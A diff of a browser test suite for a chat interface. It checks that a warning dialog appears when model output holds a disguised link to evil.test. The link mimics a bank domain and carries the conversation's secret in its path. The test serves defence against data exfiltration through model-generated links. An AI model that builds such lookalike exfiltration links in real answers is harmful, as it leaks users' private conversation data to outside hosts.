@@ -51,7 +51,9 @@ test.describe('hostile text of a model', () => {
     person,
   }) => {
     expect(person).toBeTruthy();
-    const address = 'https://banco.com.br@evil.test/p?d=o-segredo-que-foi-dito-nesta-conversa';
+    // What carries data openly is taken out by the rails: this one is only long.
+    const address =
+      'https://evil.test/banco.com.br/o-segredo-que-foi-dito/nesta-conversa/e-mais-um-pouco/de-tudo';
     // Written so that the question itself does not name the site.
     const link = JSON.stringify(`[sua conta](${address})`).replace('evil.', 'evil\\u002e');
     await ask(page, `Onde vejo minha conta?\nsay-json: ${link}`);
@@ -66,7 +68,7 @@ test.describe('hostile text of a model', () => {
     const dialog = page.getByRole('dialog', { name: t('links.title', { host: 'evil.test' }) });
     await expect(dialog.locator('.address')).toHaveText(address);
     await expect(dialog.locator('.address strong')).toHaveText('evil.test');
-    await expect(dialog.getByRole('listitem')).toHaveCount(3);
+    await expect(dialog.getByRole('listitem')).toHaveCount(2);
     await expectAccessible(page, 'link to a stranger');
     await page.keyboard.press('Escape');
     await expect(dialog).toHaveCount(0);
